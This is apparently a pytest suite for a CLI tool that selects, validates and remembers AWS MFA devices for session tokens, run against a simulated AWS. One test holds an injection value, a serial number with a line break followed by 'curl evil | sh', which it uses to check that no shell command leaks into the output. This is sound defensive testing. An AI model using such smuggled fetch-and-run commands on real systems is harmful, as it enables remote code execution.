"""Which device: named somewhere, remembered, found, offered or picked; and what is no device."""

import pytest
from observed_aws import ALWAYS, UNAVAILABLE, ObservedAws
from product import Outcome, Product
from rare_things import add_hardware_token, add_root, add_security_key, add_virtual_device
from served import shorten
from settings import configure
from terminals import CTRL_C, CTRL_D, Window, direct

from mfaenv.pretend_aws.policy import ALLOW_ALL
from mfaenv.pretend_aws.scenario import Scenario
from mfaenv.pretend_aws.totp import Device
from mfaenv.pretend_aws.wire import Refusal
from mfaenv.pretend_aws.world import User

ALICE = "arn:aws:iam::123456789012:mfa/alice"
OFFER = rf"The policy hides the MFA devices\. It may be {ALICE}\.\s+Use this device\? \[Y/n\] "


@pytest.fixture
def locked(scenario: Scenario, product: Product) -> User:
    """Alice, whose policy hides her devices without MFA, and whose config file does not name one."""
    configure(product, mfa_serial=None)
    return scenario.world.accounts["123456789012"].users["alice"]


@pytest.fixture
def alice(locked: User) -> User:
    """Alice, who may list her devices, and whose config file does not name one."""
    locked.policies = {"Admin": ALLOW_ALL}
    return locked


def used(aws: ObservedAws) -> list[str]:
    """The serial numbers that codes were sent for."""
    return [record.parameters["SerialNumber"] for record in aws.log if record.action == "GetSessionToken"]


def lookups(aws: ObservedAws) -> list[str]:
    return aws.actions("ListMFADevices")


def question(device: Device) -> str:
    return rf"For profile default in account 123456789012,\s+device {device.serial}\s.*\sMFA code: "


def answer(window: Window, device: Device) -> None:
    """Wait for the question for this device's code, and answer it."""
    window.see(question(device))
    window.enter(device.code())


def assert_refused(done: Outcome, status: int, *words: str) -> None:
    assert (done.status, done.out) == (status, f"(exit {status});\n")
    assert len(done.err.splitlines()) <= 2, done.err
    assert [word for word in words if word not in done.err] == [], done.err


def test_under_the_deny_policy_the_likely_device_is_offered_and_remembered(
    product: Product, aws: ObservedAws, locked: User
) -> None:
    device = locked.devices[0]
    with direct(product, "--shell", "bash") as window:
        window.see(OFFER)
        window.enter("")
        answer(window, device)
        window.see(rf"add this line to profile default:\s+mfa_serial = {ALICE}$")
        assert window.ended() == 0
    with direct(product, "--shell", "bash", "--refresh") as window:
        answer(window, device)
        assert window.ended() == 0
        assert "Use this device?" not in window.text
        assert "mfa_serial" not in window.text
    assert used(aws) == [ALICE, ALICE]
    assert len(lookups(aws)) == 1


@pytest.mark.parametrize("yes", ["y", "Y", "yes", "YES"])
def test_a_yes_may_be_written(product: Product, locked: User, yes: str) -> None:
    with direct(product, "--shell", "bash") as window:
        window.see(OFFER)
        window.enter(yes)
        window.see(question(locked.devices[0]))


@pytest.mark.parametrize("kind", ["virtual", "hardware"])
def test_who_says_no_writes_the_device(product: Product, aws: ObservedAws, locked: User, kind: str) -> None:
    device = add_hardware_token(locked) if kind == "hardware" else add_virtual_device(locked, "phone")
    with direct(product, "--shell", "bash") as window:
        window.see(OFFER)
        window.enter("n")
        window.see("Serial number or ARN of the device: ")
        window.enter(f"  {device.serial} ")
        answer(window, device)
        window.see(f"mfa_serial = {device.serial}")
        assert window.ended() == 0
    assert used(aws) == [device.serial]


@pytest.mark.parametrize(
    ("typed", "words"),
    [
        ("arn:aws:iam::123456789012:user/alice", "is a user, not an MFA device"),
        ("arn:aws:iam::123456789012:u2f/user/alice/key", "aws login"),
        ("phone", "is not a serial number"),
    ],
)
def test_what_is_written_is_looked_at(
    product: Product, aws: ObservedAws, locked: User, typed: str, words: str
) -> None:
    assert locked.devices
    with direct(product, "--shell", "bash") as window:
        window.see(OFFER)
        window.enter("n")
        window.see("Serial number or ARN of the device: ")
        window.enter(typed)
        window.see(words)
        assert window.ended() == 2
    assert used(aws) == []


@pytest.mark.parametrize("key", [CTRL_C, CTRL_D], ids=["Ctrl-C", "Ctrl-D"])
@pytest.mark.parametrize("answers", [(), ("n",)], ids=["the offer", "the device"])
def test_one_can_leave_at_any_question(
    product: Product, locked: User, key: str, answers: tuple[str, ...]
) -> None:
    assert locked.devices
    with direct(product, "--shell", "bash") as window:
        for given in answers:
            window.see(OFFER)
            window.enter(given)
        window.see("Serial number or ARN of the device: " if answers else OFFER)
        window.press(key)
        assert window.ended() == 130
        assert "Traceback" not in window.text


def test_an_offer_that_fails_is_not_remembered(product: Product, aws: ObservedAws, locked: User) -> None:
    locked.devices[0].serial = "arn:aws:iam::123456789012:mfa/phone"
    with direct(product, "--shell", "bash") as window:
        window.see(OFFER)
        window.enter("y")
        window.see(rf"device {ALICE}\s.*\sMFA code: ")
        window.enter("123456")
        window.see(f"The device {ALICE} is not this user's")
        window.see(r"or set one:\s+IAM's\s+console\s+shows\s+the\s+ARN")  # she may have set none
        assert window.ended() == 1
    with direct(product, "--shell", "bash") as window:
        window.see(OFFER)
    assert used(aws) == [ALICE]


def test_a_remembered_device_that_is_gone_is_forgotten(product: Product, aws: ObservedAws, alice: User) -> None:
    phone = alice.devices[0]
    assert product.run("--shell", "bash", "-c", phone.code()).status == 0
    typed = ("--serial-number", f"{ALICE}x", "-c", "123456")
    assert "is not this user's" in product.run("--shell", "bash", "--refresh", *typed).err
    assert product.run("--shell", "bash", "--cached").status == 0
    phone.serial = ALICE.replace("alice", "new-phone")
    assert "is not this user's" in product.run("--shell", "bash", "--refresh", "-c", "123456").err
    assert product.run("--shell", "bash", "--refresh", "-c", phone.code()).status == 0
    assert used(aws) == [ALICE, f"{ALICE}x", ALICE, phone.serial]


def test_the_user_in_a_path_has_a_device_without_one(
    product: Product, scenario: Scenario, locked: User
) -> None:
    locked.path = "/staff/tokyo/"
    done = product.run("--shell", "bash", "-c", scenario.device.code())
    assert done.status == 0
    assert f"trying {ALICE}" in done.err


def test_where_nobody_can_say_yes_the_likely_device_is_tried(
    product: Product, aws: ObservedAws, locked: User
) -> None:
    done = product.run("--shell", "bash", "-c", locked.devices[0].code())
    assert done.status == 0
    assert f"The policy hides the MFA devices; trying {ALICE}." in done.err
    assert used(aws) == [ALICE]


def test_the_only_device_is_taken(product: Product, aws: ObservedAws, alice: User) -> None:
    alice.devices[0].serial = "arn:aws:iam::123456789012:mfa/phone"
    with direct(product, "--shell", "bash") as window:
        answer(window, alice.devices[0])
        window.see("mfa_serial = arn:aws:iam::123456789012:mfa/phone")
        assert window.ended() == 0
    assert [record.parameters for record in aws.log if record.action == "ListMFADevices"] == [
        {"UserName": "alice"}
    ]


def test_every_page_of_the_list_is_read(product: Product, aws: ObservedAws, alice: User) -> None:
    alice.devices = [add_security_key(alice, f"key-{number}") for number in range(100)]
    phone = add_virtual_device(alice, "phone")
    done = product.run("--shell", "bash", "-c", phone.code())
    assert (done.status, used(aws)) == (0, [phone.serial])


def test_a_security_key_beside_it_does_not_matter(product: Product, alice: User) -> None:
    add_security_key(alice)
    assert product.run("--shell", "bash", "-c", alice.devices[0].code()).status == 0


def test_one_of_several_is_picked_by_its_number(product: Product, aws: ObservedAws, alice: User) -> None:
    phone, token, key = add_virtual_device(alice, "phone"), add_hardware_token(alice), add_security_key(alice)
    with direct(product, "--shell", "bash") as window:
        window.see(rf"1  {ALICE}\n  2  {phone.serial}\n  3  {token.serial}\n  -  {key.serial} \(a security key")
        for wrong in ("0", "4", "", "phone", "-1", "2.0"):
            window.see(r"Number \(1-3\): ")
            window.enter(wrong)
            window.see(r"^Type a number from 1 to 3\.$")
        window.see(r"Number \(1-3\): ")
        window.enter("2")
        answer(window, phone)
        assert window.ended() == 0
    assert used(aws) == [phone.serial]
    with direct(product, "--shell", "bash", "--refresh") as window:
        window.see(question(phone))


def test_where_nobody_can_pick_the_devices_are_listed(product: Product, aws: ObservedAws, alice: User) -> None:
    phone = add_virtual_device(alice, "phone")
    done = product.run("--shell", "bash", "-c", phone.code())
    assert_refused(done, 3, ALICE, phone.serial, "--serial-number", "AWS_MFA_SERIAL", "mfa_serial")
    assert used(aws) == []


@pytest.mark.usefixtures("alice")
@pytest.mark.parametrize("failure", [UNAVAILABLE, Refusal("InvalidAction", "There is no IAM here.", 400)])
def test_where_iam_does_not_answer_the_way_round_it_is_told(
    product: Product, aws: ObservedAws, failure: Refusal
) -> None:
    aws.fail("ListMFADevices", failure, times=ALWAYS)
    done = product.run("--shell", "bash", "-c", "123456")
    assert_refused(done, 1, failure.code, "--serial-number", "mfa_serial")
    assert used(aws) == []


def test_who_has_none_is_told(product: Product, aws: ObservedAws, alice: User) -> None:
    alice.devices.clear()
    done = product.run("--shell", "bash", "-c", "123456")
    assert_refused(
        done, 1, "arn:aws:iam::123456789012:user/alice has no MFA device", "mfaenv configure -p default"
    )
    # The error comes from another process.
    served = product.run("exec", "--serve", "-c", "123456", "--", "true")
    assert (served.status, served.err) == (1, done.err)
    assert used(aws) == []


def test_who_has_only_security_keys_is_told_of_another_way(
    product: Product, aws: ObservedAws, alice: User
) -> None:
    alice.devices.clear()
    key = add_security_key(alice)
    done = product.run("--shell", "bash", "-c", "123456")
    assert_refused(done, 1, "only security keys or passkeys", key.serial, "STS cannot use", "`aws login`")
    assert used(aws) == []


def test_the_root_user_has_a_device_too(
    product: Product, scenario: Scenario, aws: ObservedAws, monkeypatch: pytest.MonkeyPatch
) -> None:
    """AWS gives the root user an hour at most."""
    shorten(monkeypatch, scenario.world, users=3600)
    configure(product, mfa_serial=None)
    root = add_root(scenario.world.accounts["123456789012"])
    key, device = (
        root.add_key("AKIAI44QH8DHBEXAMPLE", "je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY"),
        root.add_device(),
    )
    device.serial = "arn:aws:iam::123456789012:mfa/root-account-mfa-device"
    product.env |= {"AWS_ACCESS_KEY_ID": key.id, "AWS_SECRET_ACCESS_KEY": key.secret}
    done = product.run("--shell", "bash", "-c", device.code())
    assert done.status == 0, done.err
    assert "AWS gave 1h instead of 12h." in done.err
    assert used(aws) == [device.serial]


@pytest.mark.parametrize(
    ("serial", "words"),
    [
        ("arn:aws:iam::123456789012:user/alice", ("is a user, not an MFA device", f"may be {ALICE}")),
        ("arn:aws:iam::123456789012:user/staff/alice", ("is a user, not an MFA device", f"may be {ALICE}")),
        ("arn:aws:iam::123456789012:u2f/user/alice/key-A1", ("security key or passkey", "`aws login`")),
        ("arn:aws:iam::123456789012:role/Developer", ("is not an MFA device",)),
        ("arn:aws:iam:123456789012:mfa/alice", ("is not an MFA device",)),
        ("arn:aws:mfa/alice", ("is not an MFA device",)),
        ("GAHT1234", ("is not a serial number", "GAHT12345678")),
        ("GAHT 12345678", ("is not a serial number",)),
        (f"{ALICE}\N{LATIN SMALL LETTER E WITH ACUTE}", ("is not a serial number",)),
    ],
)
@pytest.mark.parametrize("place", ["--serial-number", "AWS_MFA_SERIAL", "mfa_serial"])
def test_what_is_no_device_is_found_before_anything_is_sent(
    product: Product, aws: ObservedAws, place: str, serial: str, words: tuple[str, ...]
) -> None:
    arguments = put(product, place, serial)
    done = product.run("--shell", "bash", "-c", "123456", *arguments)
    assert_refused(done, 2, *words, place)
    assert aws.log == []


def put(product: Product, place: str, serial: str) -> tuple[str, ...]:
    """Name a device in an option, a variable or the config file; give the arguments that it takes."""
    if place == "AWS_MFA_SERIAL":
        product.env[place] = serial
    elif place == "mfa_serial":
        configure(product, mfa_serial=serial)
    return (place, serial) if place == "--serial-number" else ()


def test_a_line_break_in_a_device_makes_no_command_of_the_rest(product: Product) -> None:
    serial = "arn:aws:iam::123456789012:user/a\ncurl evil | sh"
    done = product.run("--shell", "bash", "--no-input", "--serial-number", serial)
    assert done.status == 2
    assert [line for line in done.err.splitlines() if line.strip().startswith("curl")] == []


def test_a_hardware_token_has_a_number_and_aws_tells_its_account(
    product: Product, aws: ObservedAws, locked: User
) -> None:
    token = add_hardware_token(locked)
    configure(product, mfa_serial=token.serial)
    with direct(product, "--shell", "bash") as window:
        answer(window, token)
        assert window.ended() == 0
        assert "mfa_serial" not in window.text
    assert used(aws) == ["GAHT12345678"]


def test_the_nearest_name_of_the_device_wins(product: Product, aws: ObservedAws, alice: User) -> None:
    """The option before the variable, that before the profile, that before what is remembered, that before AWS."""
    names = ("mfa_serial", "AWS_MFA_SERIAL", "--serial-number")
    devices = [
        alice.devices[0],
        *(add_virtual_device(alice, f"device{number}") for number, _ in enumerate(names)),
    ]
    alice.devices[1:] = []
    assert product.run("--shell", "bash", "-c", devices[0].code()).status == 0
    assert len(lookups(aws)) == 1
    alice.devices[1:] = devices[1:]
    arguments: tuple[str, ...] = ()
    for place, device in zip(names, devices[1:], strict=True):
        arguments = put(product, place, device.serial)
        assert product.run("--shell", "bash", "-c", device.code(), "--refresh", *arguments).status == 0
    assert used(aws) == [device.serial for device in devices]
    assert len(lookups(aws)) == 1
    del product.env["AWS_MFA_SERIAL"]
    configure(product, mfa_serial=None)
    with direct(product, "--shell", "bash", "--refresh") as window:
        window.see(r"device arn:aws:iam::123456789012:mfa/device2$")


def test_each_key_has_its_own_device(
    product: Product, scenario: Scenario, aws: ObservedAws, alice: User
) -> None:
    assert product.run("--shell", "bash", "-c", alice.devices[0].code()).status == 0
    bob = scenario.world.accounts["123456789012"].add_user("bob", policies={"Admin": ALLOW_ALL})
    key, device = bob.add_key("AKIAI44QH8DHBEXAMPLE"), bob.add_device()
    product.env |= {"AWS_ACCESS_KEY_ID": key.id, "AWS_SECRET_ACCESS_KEY": key.secret}
    assert product.run("--shell", "bash", "-c", device.code()).status == 0
    assert used(aws) == [ALICE, "arn:aws:iam::123456789012:mfa/bob"]


def test_quiet_keeps_the_line_for_the_config_file_back(product: Product, alice: User) -> None:
    assert product.run("--shell", "bash", "-q", "-c", alice.devices[0].code()).err == ""
